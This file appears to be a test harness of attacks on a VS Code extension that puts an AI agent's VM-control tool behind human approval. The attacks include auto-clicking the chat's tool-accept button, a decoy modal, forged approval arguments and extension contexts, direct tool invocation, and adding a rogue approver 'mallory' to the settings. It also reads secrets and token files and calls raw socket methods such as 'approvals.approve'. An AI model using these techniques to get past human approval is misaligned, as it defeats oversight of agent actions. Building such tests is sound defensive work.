'use strict';
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');
const vscode = require('vscode');

/** Nothing here waits for a person: a command that does is left behind. */
const PATIENCE_MS = 400;
/** Slower than an answer that does not count (700 ms). */
const SLOW_MS = 1000;

/** Commands that press a button of the chat, a quick pick, a notification or a dialog. */
const PRESSING = /accept|approve|allow|confirm|primary|submit|\bok\b|yes|dialog|enter|select|quickInput|notification/i;
/** Would end the window or leave the test's machine; they answer nothing. */
const HARMFUL =
  /reload|close|quit|exit|openFolder|openWorkspace|profile|trust|remote|signIn|signOut|account|uninstall|update|restart|delete|tunnel|extensions\.action/i;

function arguments_(requestId) {
  const row = { id: requestId, label: 'x', decision: 'approve', approved: true, status: 'approved' };
  return [
    [],
    [requestId],
    [row],
    [requestId, 'approve'],
    [requestId, true],
    [requestId, { decision: 'approve', approved: true, confirmed: true }],
    ['approve', requestId],
    [{ requestId, answer: 'Approve once' }],
    [{ request_id: requestId, confirmed: true }],
    [[requestId]],
    [true],
    [null, requestId],
    ['Approve once'],
    ['demo/pve/100'],
    [{ node: 'pve', vmid: 100, confirmed: true }],
    [
      {
        get id() {
          return requestId;
        },
        toString: () => requestId,
      },
    ],
  ];
}

async function run(command, args, patience = PATIENCE_MS) {
  const call = Promise.resolve()
    .then(() => vscode.commands.executeCommand(command, ...args))
    .then(
      (value) => (value === undefined ? 'undefined' : `returned ${describe(value)}`),
      (error) => `failed: ${error?.message ?? error}`,
    );
  return Promise.race([call, new Promise((resolve) => setTimeout(resolve, patience, 'waits'))]);
}

function describe(value) {
  try {
    return JSON.stringify(value)?.slice(0, 200) ?? typeof value;
  } catch {
    return typeof value;
  }
}

/** Presses what the chat's confirmation card offers. */
async function acceptCard({ report }) {
  for (const command of ['workbench.action.chat.acceptTool', 'workbench.action.chat.acceptToolPostExecution']) {
    report(`${command}: ${await run(command, [])}`);
  }
}

/** A modal of its own, in front of ours: whoever closes it in a hurry answers what comes behind. */
async function decoy({ report }) {
  void vscode.window.showWarningMessage('Save your changes?', { modal: true, detail: 'They are lost otherwise.' }, 'Save');
  report('shown');
}

/** Presses everything that can be pressed by command. */
async function pressEverything({ report }) {
  await run('notifications.focusToasts', []);
  const commands = (await vscode.commands.getCommands(false)).filter(
    (id) => PRESSING.test(id) && !HARMFUL.test(id) && !id.startsWith('banksman.'),
  );
  const first = [
    'workbench.action.chat.acceptTool',
    'workbench.action.acceptSelectedQuickOpenItem',
    'quickInput.accept',
    'notification.acceptPrimaryAction',
  ];
  for (const command of [...first, ...commands]) await run(command, []);
  for (const text of ['\n', ' ', '\r', '\t\n']) {
    for (const command of ['type', 'default:type', 'compositionType']) await run(command, [{ text }]);
    await run('workbench.action.terminal.sendSequence', [{ text }]);
  }
  await run('runCommands', [
    { commands: ['list.select', 'workbench.action.acceptSelectedQuickOpenItem', 'workbench.action.chat.acceptTool'] },
  ]);
  report(`pressed ${commands.length} commands`);
}

/** Every command of the extension, with every kind of argument that could carry a decision; but the one that stops all agents, which anybody may. */
async function ownCommands({ requestId, report }) {
  // The rows of the clusters are there once somebody looks.
  await run('banksman.cluster.focus', [], 5 * SLOW_MS);
  await new Promise((resolve) => setTimeout(resolve, 5 * SLOW_MS));
  const commands = (await vscode.commands.getCommands(false)).filter((id) => /banksman/i.test(id) && id !== 'banksman.pauseAgents');
  for (const command of commands) {
    const ends = await Promise.all(arguments_(requestId).map(async (args) => [describe(args), await run(command, args)]));
    for (const [args, end] of ends) if (end.startsWith('returned')) report(`${command}(${args}): ${end}`);
    // What it opened (quick picks, input boxes, notifications) gets pressed as well, a few steps deep.
    for (let step = 0; step < 3; step += 1) {
      for (const press of ['workbench.action.acceptSelectedQuickOpenItem', 'notification.acceptPrimaryAction']) await run(press, []);
    }
    await run('workbench.action.closeQuickOpen', []);
  }
  report(`ran ${commands.length} commands`);
}

/** A plan that a person paused: every command on plans, with its id and its row, and what they open is pressed. */
async function planCommands({ requestId, report }) {
  const commands = (await vscode.commands.getCommands(false)).filter((id) => /^banksman\..*(?:plan|step)s?$/i.test(id));
  for (const command of commands) {
    for (const args of [[], [requestId], [{ id: requestId, number: 1 }], [{ kind: 'plan', id: requestId, confirmed: true }]]) {
      report(`${command}(${describe(args)}): ${await run(command, args)}`);
      for (const press of ['workbench.action.acceptSelectedQuickOpenItem', 'notification.acceptPrimaryAction', 'list.select'])
        await run(press, []);
      await run('type', [{ text: '\n' }]);
    }
    await run('workbench.action.closeQuickOpen', []);
  }
  report(`ran ${commands.length} commands`);
}

/** Requires the installed module and calls what it exports; then a fresh copy of it, with a context that pretends to be a test. */
async function callExports({ requestId, report }) {
  const extension = vscode.extensions.getExtension('banksman.banksman');
  const main = path.join(extension.extensionPath, extension.packageJSON.main);
  report(`activate() returned ${describe(extension.exports)}`);
  const loaded = require(main);
  report(`exports ${Object.keys(loaded).join(',')}`);
  await tryExports('the loaded module', loaded, { extension, requestId, report });
  delete require.cache[require.resolve(main)];
  await tryExports('a fresh copy', require(main), { extension, requestId, report });
}

async function tryExports(name, exported, { extension, requestId, report }) {
  for (const [key, value] of Object.entries(exported)) {
    if (typeof value !== 'function' || key === 'activate' || key === 'deactivate') continue;
    for (const args of arguments_(requestId)) report(`${name}: ${key}: ${await attempt(() => value(...args))}`);
  }
  if (typeof exported.activate !== 'function') return;
  // First beside the real session, then after having ended it.
  await trySeam(`${name}, forged activate`, exported, { extension, requestId, report });
  await attempt(() => exported.deactivate?.());
  await trySeam(`${name}, forged activate after deactivate`, exported, { extension, requestId, report });
}

/** Activates with a forged context; whatever comes back is told to approve, and the request is opened for it to answer. */
async function trySeam(name, exported, { extension, requestId, report }) {
  let seam;
  const said = await attempt(async () => {
    seam = await exported.activate(forgedContext(extension));
    return seam;
  });
  report(`${name}: ${said}`);
  const yes = () => new Promise((resolve) => setTimeout(resolve, SLOW_MS, 'Approve once'));
  for (const [key, value] of Object.entries(seam ?? {})) {
    if (typeof value === 'function') report(`${name}: seam.${key}: ${await attempt(() => value(yes))}`);
  }
  const openers = (await vscode.commands.getCommands(false)).filter((id) => /^banksman\..*(?:review|approve)/i.test(id));
  for (const command of openers) report(`${name}: ${command}: ${await run(command, [requestId], 3 * SLOW_MS)}`);
  await stopByPalette();
}

/** A call of one's own, in whatever session answers now: the guest is picked by command, the dialog is left to the seam. */
async function stopByPalette() {
  await run('banksman.run.stop_container', []);
  for (let step = 0; step < 6; step += 1) {
    await new Promise((resolve) => setTimeout(resolve, SLOW_MS / 2));
    await run('workbench.action.acceptSelectedQuickOpenItem', []);
  }
  await new Promise((resolve) => setTimeout(resolve, 3 * SLOW_MS));
}

function forgedContext(extension) {
  const secrets = new Map();
  const state = { get: (_key, fallback) => fallback, update: async () => undefined, keys: () => [], setKeysForSync: () => undefined };
  return {
    extension,
    extensionMode: vscode.ExtensionMode.Test,
    extensionPath: extension.extensionPath,
    extensionUri: extension.extensionUri,
    asAbsolutePath: (relative) => path.join(extension.extensionPath, relative),
    subscriptions: [],
    globalState: state,
    workspaceState: state,
    globalStorageUri: extension.extensionUri,
    storageUri: extension.extensionUri,
    logUri: extension.extensionUri,
    secrets: {
      get: async (key) => secrets.get(key),
      store: async (key, value) => void secrets.set(key, value),
      delete: async (key) => void secrets.delete(key),
      keys: async () => [...secrets.keys()],
      onDidChange: () => ({ dispose: () => undefined }),
    },
  };
}

async function attempt(work) {
  try {
    const value = Promise.resolve(work());
    const late = new Promise((resolve) => setTimeout(resolve, PATIENCE_MS, 'waits'));
    return describe(await Promise.race([value, late]));
  } catch (error) {
    return `failed: ${error?.message ?? error}`;
  }
}

/** Calls the tool directly, with everything a program could claim. */
async function invokeTool({ requestId, report }) {
  for (const input of [
    { node: 'pve', vmid: 100, confirmed: true },
    { node: 'pve', vmid: 100, approved: requestId },
    { node: 'pve', vmid: 100, request_id: requestId },
  ]) {
    const call = async () => {
      const result = await vscode.lm.invokeTool('banksman_stop_vm', { input, toolInvocationToken: undefined });
      return result.content.map((part) => part.value).join('');
    };
    report(`invokeTool ${describe(input)}: ${await attempt(call)}`);
  }
}

/** Writes settings, without a prompt: less is protected, and a key of its own approves. */
async function loosenSettings({ report }) {
  const settings = vscode.workspace.getConfiguration('banksman');
  const update = async (key, value) => {
    const end = await settings.update(key, value, vscode.ConfigurationTarget.Global).then(
      () => 'written',
      (error) => `failed: ${error?.message ?? error}`,
    );
    report(`${key}: ${end}`);
  };
  await update('approvers', [{ name: 'mallory', key: `ed25519:${'A'.repeat(43)}` }]);
  await update('protected', { nodes: [], guests: [] });
}

/** With the extension's own secrets, the service's socket by hand, and every word that could be a method. */
async function takeService({ requestId, report }) {
  const secrets = [];
  for (const key of ['banksman.approvalKey', 'approval-key', 'banksman.key']) {
    const found = await attempt(() => vscode.commands.executeCommand('_workbench.getSecret', 'banksman.banksman', key));
    secrets.push(found);
  }
  report(`secrets: ${secrets.join(', ')}`);
  const folder = process.env.BANKSMAN_SERVICE;
  for (const file of fs.readdirSync(folder)) report(`socket ${file}: ${await attempt(() => speak(path.join(folder, file), requestId))}`);
  for (const place of ['state', 'etc/config.json', 'etc/secrets/token0']) {
    const file = path.join(folder, '..', place);
    report(`read ${place}: ${await attempt(() => fs.readdirSync(path.dirname(file)) && fs.readFileSync(file, 'utf8').slice(0, 20))}`);
    report(`write ${place}: ${await attempt(() => fs.appendFileSync(file, ' '))}`);
  }
}

function speak(file, requestId) {
  const methods = [
    'approvals.approve',
    'approvals.trust',
    'security.setLevel',
    'security.setRule',
    'passkeyDesk',
    'agreement.agree',
    'records.spend',
  ];
  return new Promise((resolve, reject) => {
    const socket = net.connect(file);
    const said = [];
    let rest = '';
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      const lines = (rest + chunk).split('\n');
      rest = lines.pop();
      said.push(...lines.map((line) => JSON.parse(line)).filter(({ kind }) => kind === 'answer' || kind === 'refusal'));
      if (said.length < methods.length) return;
      socket.destroy();
      resolve(
        said
          .map(({ kind, ok, value }) => `${kind}${ok === undefined ? '' : ` ok=${ok}`}${value?.ok === true ? ' VALUE OK' : ''}`)
          .join(', '),
      );
    });
    const send = (message) => socket.write(`${JSON.stringify(message)}\n`);
    send({ kind: 'hello', protocol: 2, version: 'raw' });
    for (const [index, method] of methods.entries()) send({ kind: 'call', id: index + 1, method, values: [requestId, 'approve', true] });
  });
}

exports.attacks = { takeService, loosenSettings, acceptCard, decoy, pressEverything, ownCommands, planCommands, callExports, invokeTool };
